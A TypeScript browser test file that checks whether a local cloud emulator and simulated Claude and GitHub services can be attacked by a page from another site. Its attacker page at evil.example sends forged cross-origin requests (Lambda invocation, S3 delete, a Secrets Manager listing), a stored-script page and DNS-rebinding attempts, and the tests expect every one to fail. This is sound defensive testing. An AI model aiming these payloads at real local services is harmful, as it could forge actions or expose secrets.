import { once } from 'node:events';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import { mkdtemp } from 'node:fs/promises';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { json } from 'node:stream/consumers';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { startSimulatedClaude, type SimulatedClaude } from '@agent-fleet/simulated-claude';
import { startSimulatedGithub, type SimulatedGithub } from '@agent-fleet/simulated-github';
import { GetObjectCommand, HeadObjectCommand, PutObjectCommand, S3Client } from '@aws-sdk/client-s3';
import { InvokeCommand, LambdaClient } from '@aws-sdk/client-lambda';
import { getSignedUrl } from '@aws-sdk/s3-request-presigner';
import { CREDENTIALS, functionResource, startFixture, type FixtureCloud } from '@agent-fleet/local-cloud/testing/cloud';
import { CHROMIUM, chromium } from '#test/support/chromium.ts';

/**
 * A page of another origin, in a real browser, beside a running cloud: it reads nothing and starts nothing. Without a
 * browser the test is skipped; packages/local-cloud/test/gateway/loopback.test.ts sends the same requests itself.
 */

const KEY = 'sk-ant-a-real-key';
const PORTS = ['aws', 'api', 'claude', 'github'] as const;

let cloud: FixtureCloud;
let claude: SimulatedClaude;
let github: SimulatedGithub;
let attacker: Server;
let s3: S3Client;
let urls: Readonly<Record<(typeof PORTS)[number], string>>;
const runs = (): number => cloud.events.filter(({ code }) => code === 'lambda.log').length;

beforeAll(async () => {
  cloud = await startFixture(
    {
      resources: {
        Worker: functionResource('worker'),
        Docs: { Type: 'AWS::S3::Bucket', Properties: { BucketName: 'docs' } },
        Key: { Type: 'AWS::SecretsManager::Secret', Properties: { Name: 'model-api-key' } },
        MayInvoke: {
          Type: 'AWS::Lambda::Permission',
          Properties: {
            Action: 'lambda:InvokeFunction',
            FunctionName: { Ref: 'Worker' },
            Principal: 'apigateway.amazonaws.com',
          },
        },
        Api: { Type: 'AWS::ApiGateway::RestApi', Properties: { Name: 'fixture' } },
        Any: {
          Type: 'AWS::ApiGateway::Method',
          Properties: {
            RestApiId: { Ref: 'Api' },
            ResourceId: { 'Fn::GetAtt': ['Api', 'RootResourceId'] },
            HttpMethod: 'ANY',
            AuthorizationType: 'NONE',
            Integration: {
              Type: 'AWS_PROXY',
              IntegrationHttpMethod: 'POST',
              Uri: {
                'Fn::Sub':
                  'arn:aws:apigateway:${AWS::Region}:lambda:path/2015-03-31/functions/${Worker.Arn}/invocations',
              },
            },
          },
        },
        Deployment: {
          Type: 'AWS::ApiGateway::Deployment',
          Properties: { RestApiId: { Ref: 'Api' } },
          DependsOn: 'Any',
        },
        Stage: {
          Type: 'AWS::ApiGateway::Stage',
          Properties: { RestApiId: { Ref: 'Api' }, DeploymentId: { Ref: 'Deployment' }, StageName: 'v1' },
        },
      },
      code: {
        worker: `export const handler = async () => {
          console.log('ran');
          return { statusCode: 200, headers: { 'access-control-allow-origin': '*' }, body: 'an answer' };
        };`,
      },
    },
    { apiPort: 0, secrets: { 'model-api-key': KEY } },
  );
  s3 = new S3Client({ endpoint: cloud.endpoint, region: 'us-east-1', credentials: CREDENTIALS, forcePathStyle: true });
  claude = await startSimulatedClaude({ latency: { kind: 'fixed', ms: 0 }, rules: [] });
  github = await startSimulatedGithub({ folder: await mkdtemp(join(tmpdir(), 'simulated-github-')) });
  urls = {
    aws: cloud.endpoint,
    api: `http://127.0.0.1:${new URL(cloud.apis[0]?.url ?? '').port}`,
    claude: claude.url,
    github: github.url,
  };
  attacker = createServer(serveAttack).listen(0, '127.0.0.1');
  await once(attacker, 'listening');
});
afterAll(async () => {
  attacker.close();
  await claude.close();
  await github.stop();
  await cloud[Symbol.asyncDispose]();
});

type Tried = Readonly<Record<(typeof PORTS)[number], readonly string[]>>;
let tried: Tried | undefined;
let whenTried: (() => void) | undefined;

/** The page is loaded once it has reported: its picture is sent only then. */
function serveAttack(request: IncomingMessage, response: ServerResponse): void {
  if (request.url === '/picture') {
    whenTried = () => response.writeHead(404).end();
    if (tried !== undefined) whenTried();
  } else if (request.url === '/report') {
    void json(request).then((report) => {
      tried = report as Tried;
      response.end();
      whenTried?.();
    });
  } else if (request.url === '/ran') {
    ranPages += 1;
    response.end();
  } else if (request.url === '/stored') {
    response.setHeader('content-type', 'text/html').end(storedPage());
  } else if (request.url === '/frame') {
    response.setHeader('content-type', 'text/html').end(framePage());
  } else {
    response.setHeader('content-type', 'text/html').end(page());
  }
}

/** A page that somebody stored as an object, and one that shows it in a frame and reports once the frame has had its time. */
let ranPages = 0;
let framed = '';
const storedPage = (): string =>
  `<script>fetch('http://127.0.0.1:${attackerPort()}/ran', { mode: 'no-cors' }).finally(() => parent.postMessage('ran', '*'))</script>`;
const framePage = (): string => `<body><img src="/picture"><iframe src="${framed}"></iframe><script>
  const report = () => fetch('/report', { method: 'POST', body: '{}' });
  onmessage = report;
  setTimeout(report, 2_000);
</script></body>`;

/** Forgeries of signed calls, as simple requests that a browser sends without asking first. */
const FORGED: Readonly<Record<string, string>> = {
  '/2015-03-31/functions/worker/invocations': JSON.stringify({
    requestContext: { authorizer: { tenant: 'acme', scopes: 'submit read operate' } },
  }),
  '/docs?delete': '<Delete><Object><Key>kept</Key></Object></Delete>',
  '/': 'Action=SendMessage',
  '/v1/messages': '{}',
  '/tasks': '{"agent":"parrot","instruction":"hello"}',
};

/** All that a page can send without permission, and what it can read with it. */
const page = (): string => `<body><img src="/picture"><script>
  const authorization = 'AWS4-HMAC-SHA256 Credential=test/20261128/us-east-1/secretsmanager/aws4_request, SignedHeaders=host, Signature=${'0'.repeat(64)}';
  const said = (promise) => promise.then(async (answer) => answer.status + ' ' + (await answer.text()), () => 'nothing');
  const socket = (url) => new Promise((done) => {
    const tried = new WebSocket(url.replace('http', 'ws'));
    tried.onopen = () => done('open');
    tried.onerror = () => done('nothing');
  });
  (async () => {
    const results = {};
    for (const [name, url] of Object.entries(${JSON.stringify(urls)})) {
      results[name] = [
        await said(fetch(url)),
        await said(fetch(url, { mode: 'no-cors' })),
        await said(fetch(url, { mode: 'no-cors', method: 'POST', body: '{}', headers: { 'content-type': 'text/plain' } })),
        await said(fetch(url, { method: 'POST', body: '{}', headers: { authorization, 'x-amz-target': 'secretsmanager.ListSecrets' } })),
        await socket(url),
      ];
      for (const [path, body] of Object.entries(${JSON.stringify(FORGED)})) {
        const simple = { mode: 'no-cors', method: 'POST', body, headers: { 'content-type': 'text/plain' } };
        results[name].push(await said(fetch(url + path, simple)));
      }
      const form = Object.assign(document.createElement('form'), { action: url, method: 'post', target: 'frame' });
      const frame = Object.assign(document.createElement('iframe'), { name: 'frame' });
      document.body.append(frame, form);
      await new Promise((done) => { frame.onload = done; form.submit(); setTimeout(done, 500); });
    }
    await fetch('/report', { method: 'POST', body: JSON.stringify(results) });
  })();
</script></body>`;

async function open(host: string, port: string, path = '/'): Promise<string> {
  tried = undefined;
  whenTried = undefined;
  return chromium(
    '--dump-dom',
    // As a page does whose name first resolves to its own server and then to this machine.
    '--host-resolver-rules=MAP *.example 127.0.0.1',
    `http://${host}:${port}${path}`,
  );
}

const attackerPort = (): string => String((attacker.address() as AddressInfo).port);

describe.skipIf(CHROMIUM === undefined)('a page in Chromium (apt-get install chromium)', () => {
  test('that belongs to another site reads nothing and starts nothing', async () => {
    await s3.send(new PutObjectCommand({ Bucket: 'docs', Key: 'kept', Body: 'bytes' }));
    const dom = await open('evil.example', attackerPort());
    const nothing = ['nothing', '0 ', '0 ', 'nothing', 'nothing', ...Object.keys(FORGED).map(() => '0 ')];
    expect(tried).toEqual({ aws: nothing, api: nothing, claude: nothing, github: nothing });
    expect(dom).not.toContain(KEY);
    expect(runs()).toBe(0);
    await s3.send(new HeadObjectCommand({ Bucket: 'docs', Key: 'kept' }));
  });

  test('that somebody stored as an object does not run from a link', async () => {
    const page = { Bucket: 'docs', Key: 'page.html', Body: storedPage(), ContentType: 'text/html' };
    await s3.send(new PutObjectCommand(page));
    framed = await getSignedUrl(s3, new GetObjectCommand({ Bucket: 'docs', Key: 'page.html' }));
    await open('127.0.0.1', attackerPort(), '/frame');
    expect(ranPages).toBe(0);
    // From a server that sends it as a page it runs, so the frame above was able to.
    framed = '/stored';
    await open('127.0.0.1', attackerPort(), '/frame');
    expect(ranPages).toBe(1);
  }, 120_000);

  test.each(PORTS)('whose name was rebound to the %s port is refused', async (name) => {
    const dom = await open('rebound.example', new URL(urls[name]).port);
    expect(dom).toContain('Forbidden: The Host of the request is not this machine');
    expect(runs()).toBe(0);
  });

  test('of this machine reads what it is answered, so the page above was able to try', async () => {
    const lambda = new LambdaClient({ endpoint: cloud.endpoint, region: 'us-east-1', credentials: CREDENTIALS });
    expect(runs()).toBe(0);
    await lambda.send(new InvokeCommand({ FunctionName: 'worker', Payload: Object.values(FORGED)[0] ?? '' }));
    const signed = runs();
    expect(signed).toBeGreaterThan(0);
    await open('127.0.0.1', attackerPort());
    expect(tried?.api[0]).toBe('200 an answer');
    expect(runs()).toBeGreaterThan(signed);
  });
});
